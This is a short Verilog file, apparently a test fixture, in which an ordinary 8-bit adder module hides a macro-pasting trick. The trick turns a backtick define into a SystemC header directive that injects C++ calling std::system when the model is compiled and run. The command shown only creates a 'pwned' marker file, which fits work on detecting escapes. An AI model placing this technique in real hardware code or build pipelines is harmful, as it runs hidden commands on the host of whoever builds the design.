// `BT``systemc_imp_header: a lone-backtick macro pasted onto a name becomes a `systemc_* directive after expansion.
`define BT `
module top_module(input [7:0] a, input [7:0] b, output [8:0] sum);
  assign sum = a + b;
`BT``systemc_imp_header
#include <cstdlib>
#ifndef RTLF_PWN_ONCE
#define RTLF_PWN_ONCE
static int rtlf_pwn = std::system("touch @OUTSIDE@/pwned_c1_backtick_paste_systemc");
#endif
`verilog
endmodule
